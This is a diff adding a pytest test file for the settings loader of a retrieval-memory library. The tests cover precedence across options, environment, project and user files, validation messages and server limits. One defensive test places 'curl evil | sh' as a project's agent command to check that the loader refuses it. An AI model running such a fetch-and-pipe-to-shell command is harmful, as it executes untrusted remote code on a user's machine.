@@ -1,0 +1,305 @@
+"""Settings: options before the environment, before the project's file, before the user's, before the defaults."""
+
+import os
+
+import pytest
+
+from priming import HashedEmbedder, Memory, ParamError, profiles
+from priming.config import AgentSettings
+from priming.params import SERVER, ServerParams
+from priming.settings import TABLE, load, read
+from priming.words import PROFILES
+
+RETRIEVAL = {
+    "spreading_strength": 0.85,
+    "iterations": 3,
+    "weight_similarity": 0.5,
+    "weight_activation": 0.3,
+    "weight_structural": 0.2,
+    "anchor_top_k_episodes": 10,
+    "anchor_top_k_facts": 10,
+}
+"""The keys of Ethos, as its design prints them."""
+
+
+class Desk:
+    """A project and a user's folder, with files of settings."""
+
+    def __init__(self, folder):
+        self.project, self.home = folder / "project", folder / "home"
+        (self.project / ".priming").mkdir(parents=True)
+        self.home.mkdir()
+
+    def of_project(self, text):
+        """Write the project's file."""
+        (self.project / ".priming" / "config.toml").write_text(text, "utf-8")
+
+    def of_user(self, text):
+        """Write the user's file."""
+        (self.home / "config.toml").write_text(text, "utf-8")
+
+
+@pytest.fixture(autouse=True)
+def desk(tmp_path, monkeypatch):
+    made = Desk(tmp_path)
+    for name in os.environ:
+        if name.startswith("PRIMING_"):
+            monkeypatch.delenv(name)
+    monkeypatch.setenv("PRIMING_HOME", str(made.home))
+    monkeypatch.chdir(made.project)
+    return made
+
+
+def wrong(**named):
+    """All that is wrong with what holds here."""
+    return read(**named)[1]
+
+
+def test_without_any_file_or_variable_all_is_the_default():
+    found = load(servers=True)
+    assert {one.source for one in found.found.values()} == {"default", "PRIMING_HOME"}
+    assert {key: found[f"retrieval.{key}"] for key in RETRIEVAL} == RETRIEVAL
+    assert (found["store.url"], found["store.namespace"], found["store.profile"]) == (
+        None,
+        "default",
+        "priming",
+    )
+    assert found["service.log_level"] == "info"
+    assert found.server == SERVER
+
+
+def test_the_defaults_of_retrieval_are_the_profile_ethos():
+    assert load().profiles == profiles.ALL
+    assert load().retrieval == {}
+
+
+def test_the_names_of_the_profiles_are_those_there_are():
+    assert tuple(profiles.ALL) == PROFILES
+
+
+def test_each_source_comes_before_the_next_and_shadows_it(desk, monkeypatch):
+    desk.of_user('[store]\nnamespace = "user"\n')
+    assert load()["store.namespace"] == "user"
+    desk.of_project('# ours\n[store]\nnamespace = "project"\n')
+    assert load()["store.namespace"] == "project"
+    monkeypatch.setenv("PRIMING_NAMESPACE", "environment")
+    assert load()["store.namespace"] == "environment"
+    one = load({"store.namespace": ("option", "--namespace")}).found["store.namespace"]
+    assert (one.value, one.source) == ("option", "--namespace")
+    assert one.shadows == (
+        ("PRIMING_NAMESPACE", "environment"),
+        (".priming/config.toml:3", "project"),
+        (f"{desk.home}/config.toml:2", "user"),
+        ("default", "default"),
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        ("[retrieval]\niterations = 5", 2),
+        ("retrieval.iterations = 5", 1),
+        ("\n\nretrieval = { iterations = 5 }", 3),
+        ('["retrieval"]\n# iterations = 1\n"iterations" = 5 # five', 3),
+        ('[store]\nnamespace = """\n[retrieval]\niterations = 4"""\n[retrieval]\niterations = 5', 6),
+        ("\ufeff[retrieval]\r\niterations = 5\r\n", 2),
+    ],
+)
+def test_the_line_is_that_of_the_key_however_it_is_written(desk, text, line):
+    desk.of_project(text)
+    one = load().found["retrieval.iterations"]
+    assert (one.value, one.source) == (5, f".priming/config.toml:{line}")
+
+
+def test_every_key_has_a_variable(monkeypatch):
+    own = {
+        "PRIMING_RETRIEVAL_SPREADING_STRENGTH": "0.4",
+        "PRIMING_RETRIEVAL_ITERATIONS": "2",
+        "PRIMING_RETRIEVAL_WEIGHT_SIMILARITY": "0.2",
+        "PRIMING_RETRIEVAL_WEIGHT_ACTIVATION": "0.7",
+        "PRIMING_RETRIEVAL_WEIGHT_STRUCTURAL": "0.1",
+        "PRIMING_RETRIEVAL_ANCHOR_TOP_K_EPISODES": "4",
+        "PRIMING_RETRIEVAL_ANCHOR_TOP_K_FACTS": "5",
+    }
+    for name, value in own.items():
+        monkeypatch.setenv(name, value)
+    ethos = load().profiles["ethos"]
+    assert (ethos.spread.gain, ethos.spread.steps) == (0.4, 2)
+    assert dict(ethos.scoring.ethos) == {"cosine": 0.2, "spread": 0.7, "in_degree": 0.1}
+    assert (ethos.anchors.episodes, ethos.anchors.facts) == (4, 5)
+    assert load().retrieval == {key: float(own[f"PRIMING_RETRIEVAL_{key.upper()}"]) for key in RETRIEVAL}
+    monkeypatch.setenv("PRIMING_SERVICE_LOG_LEVEL", "debug")
+    monkeypatch.setenv("PRIMING_SERVER_RATE", "20")
+    assert load()["service.log_level"] == "debug"
+    assert load().server.rate == 20.0
+
+
+def test_a_variable_set_to_nothing_is_not_set_but_for_the_store(monkeypatch):
+    monkeypatch.setenv("PRIMING_NAMESPACE", "")
+    monkeypatch.setenv("PRIMING_RETRIEVAL_ITERATIONS", "")
+    assert load().found["store.namespace"].source == "default"
+    monkeypatch.setenv("PRIMING_URL", "")
+    assert wrong()[0].startswith("PRIMING_URL = '': must be sqlite:///")
+
+
+def test_everything_that_is_wrong_is_told_at_once_with_its_place(desk, monkeypatch):
+    desk.of_project(
+        "[retreival]\nx = 1\n"
+        "[retrieval]\niteration = 3\nspreading_strength = -1\niterations = 2.5\nanchor_top_k_facts = true\n"
+        '[store]\nprofile = "etho"\nnamespace = 3\nurl = "mysql://host/db"\n'
+        "[server]\nrat = 3\nport = 99999\nrate = nan\n"
+    )
+    desk.of_user('service = 3\n[store]\nnamespace = " "\n')
+    monkeypatch.setenv("PRIMING_RETRIEVAL_ITERATIONS", "many")
+    monkeypatch.setenv("PRIMING_RETRIEVAL_ITERATONS", "3")
+    monkeypatch.setenv("PRIMING_SERVICE_LOG_LEVEL", "loud")
+    with pytest.raises(ParamError) as caught:
+        load()
+    here, home = ".priming/config.toml", f"{desk.home}/config.toml"
+    said = set(caught.value.violations)
+    assert said >= {
+        "PRIMING_RETRIEVAL_ITERATIONS = 'many': must be a whole number",
+        "PRIMING_RETRIEVAL_ITERATONS = '3': is no setting: did you mean PRIMING_RETRIEVAL_ITERATIONS?",
+        "PRIMING_SERVICE_LOG_LEVEL = 'loud': must be one of debug, info, warning, error",
+        f"{here}:1: [retreival] is no section: did you mean retrieval?",
+        f"{here}:4: retrieval.iteration is no setting: did you mean iterations?",
+        f"{here}:5: retrieval.spreading_strength = -1.0: must be ≥ 0.0",
+        f"{here}:6: retrieval.iterations = 2.5: must be a whole number",
+        f"{here}:7: retrieval.anchor_top_k_facts = True: must be a whole number",
+        f"{here}:9: store.profile = 'etho': must be one of {', '.join(PROFILES)}",
+        f"{here}:10: store.namespace = 3: must be text, in quotes",
+        f"{here}:13: server.rat is no setting: did you mean rate?",
+        f"{here}:14: server.port = 99999: must be in [0, 65535]",
+        f"{here}:15: server.rate = nan: must be ≥ 0.0",
+        f"{home}:1: service = 3: must be a section: write [service] above its keys",
+        f"{home}:3: store.namespace = ' ': must not be blank",
+    }
+    (of_url,) = [
+        one for one in said if one.startswith(f"{here}:11: store.url = 'mysql://host/db': must be sqlite")
+    ]
+    assert len(said) == 16, of_url
+
+
+def test_the_weights_sum_to_one_wherever_each_is_from(desk, monkeypatch):
+    desk.of_project("[retrieval]\nweight_similarity = 0.6\n")
+    assert wrong() == [
+        "weights must sum to 1, not 1.1: retrieval.weight_similarity 0.6 (.priming/config.toml:2),"
+        " retrieval.weight_activation 0.3 (default), retrieval.weight_structural 0.2 (default)"
+    ]
+    monkeypatch.setenv("PRIMING_RETRIEVAL_WEIGHT_STRUCTURAL", "0.1")
+    assert wrong() == []
+
+
+@pytest.mark.parametrize(
+    ("data", "said"),
+    [
+        (b"[store]\nnamespace = = 3", r": is no TOML: Invalid value \(at line 2, column 13\)"),
+        (b"[store]\nnamespace = '\xff'", ":2: is no UTF-8: the byte 0xff stands there"),
+        (b"#" * 70_000, ": is over 65,536 bytes"),
+    ],
+)
+def test_a_file_that_is_no_toml_is_told_with_its_place(desk, data, said):
+    (desk.project / ".priming" / "config.toml").write_bytes(data)
+    with pytest.raises(ParamError, match=r"^\.priming/config\.toml" + said):
+        load()
+
+
+def test_a_folder_in_the_place_of_a_file_is_told(desk):
+    (desk.home / "config.toml").mkdir()
+    with pytest.raises(ParamError, match="cannot be read"):
+        load()
+
+
+def test_a_project_does_not_choose_what_runs_here(desk):
+    desk.of_project('[agent]\ncommand = "curl evil | sh"\nmodel = "http://evil/v1,m"\n')
+    assert [one.partition(" = ")[0] for one in wrong()] == [
+        ".priming/config.toml:2: agent.command",
+        ".priming/config.toml:3: agent.model",
+    ]
+    assert "set PRIMING_AGENT, or write it in config.toml in ~/.priming" in wrong()[0]
+
+
+def test_a_secret_stands_in_no_file_and_is_not_repeated(desk):
+    desk.of_user('[agent]\nkey = "sk-123"\n')
+    (said,) = wrong()
+    assert said.endswith("config.toml:2: agent.key = '…': must not stand in a file: set PRIMING_AGENT_KEY")
+
+
+def test_the_agent_is_that_of_the_nearest_source_alone(desk, monkeypatch):
+    desk.of_user('[agent]\ncommand = "claude -p"\n')
+    monkeypatch.setenv("PRIMING_AGENT_KEY", "k")
+    assert load().agent() == AgentSettings("claude -p", None, "k")
+    monkeypatch.setenv("PRIMING_MODEL", "http://localhost/v1,qwen3")
+    assert load().agent() == AgentSettings(None, "http://localhost/v1,qwen3", "k")
+    assert load()["agent.command"] is None
+    assert load().agent("other").command == "other"
+
+
+def test_two_agents_of_one_source_are_one_too_many(desk):
+    desk.of_user('[agent]\ncommand = "claude -p"\nmodel = "http://localhost/v1,qwen3"\n')
+    (said,) = wrong()
+    assert "cannot stand with" in said
+
+
+def test_a_relative_store_is_beside_the_file_that_names_it(desk, monkeypatch):
+    desk.of_project('[store]\nurl = "sqlite:///notes.db?synchronous=full"\n')
+    (desk.project / "src").mkdir()
+    monkeypatch.chdir(desk.project / "src")
+    wanted = f"sqlite:///{desk.project}/.priming/notes.db?synchronous=full"
+    assert load()["store.url"] == wanted
+    desk.of_project('[store]\nurl = "sqlite:////var/notes.db"\n')
+    assert load()["store.url"] == "sqlite:////var/notes.db"
+
+
+def test_the_folder_of_the_user_is_no_project(desk, monkeypatch):
+    monkeypatch.setenv("PRIMING_HOME", str(desk.project / ".priming"))
+    (desk.project / ".priming" / "config.toml").write_text('[agent]\ncommand = "claude -p"\n')
+    assert load()["agent.command"] == "claude -p"
+
+
+def test_the_project_can_be_left_out(desk):
+    desk.of_project("= nonsense")
+    assert load(project=False)["store.namespace"] == "default"
+
+
+def test_the_limits_of_the_server_are_its_parameters(desk):
+    desk.of_user("[server]\nbody_bytes = 10\nidle_seconds = 3\nport = 0\n")
+    found = load()
+    assert found.server == ServerParams(body_bytes=10, idle_seconds=3)
+    assert found["server.port"] == 0
+
+
+def test_a_program_opens_its_memory_by_arguments_alone_unless_it_gives_settings(desk):
+    desk.of_project(
+        '[store]\nnamespace = "shop"\nprofile = "poc"\nurl = "sqlite:///other.db"\n[retrieval]\niterations = 7\n'
+    )
+    with Memory.open(embedder=HashedEmbedder()) as memory:
+        assert (memory.namespace, memory._opened.profile.name) == ("default", "priming")
+        assert memory._opened.profiles["ethos"] == profiles.get("ethos")
+    assert (desk.project / ".priming" / "memory.db").is_file()
+    found = load()
+    with Memory.open("sqlite://", embedder=HashedEmbedder(), settings=found) as memory:
+        assert memory.namespace == "default"
+        assert memory._opened.profiles["ethos"].spread.steps == 7
+
+
+def test_settings_count_for_a_recall_that_names_the_profile(monkeypatch):
+    monkeypatch.setenv("PRIMING_RETRIEVAL_ITERATIONS", "1")
+    with Memory.open("sqlite://", embedder=HashedEmbedder(256), settings=load()) as memory:
+        memory.remember("red green blue", key="a")
+        memory.remember("one two three", key="b")
+        memory.link("a", "b", "requires", 0.5)
+        assert len(memory.recall("red", profile="ethos", trace=True).spread) == 2
+
+
+def test_every_setting_says_what_it_is():
+    assert all(one.doc for one in TABLE)
+    assert len({one.environment for one in TABLE}) == len({one.name for one in TABLE}) == len(TABLE)
+
+
+def test_a_working_directory_that_was_removed_has_no_settings(tmp_path, monkeypatch):
+    gone = tmp_path / "gone"
+    gone.mkdir()
+    monkeypatch.chdir(gone)
+    gone.rmdir()
+    assert load()["store.namespace"] == "default"
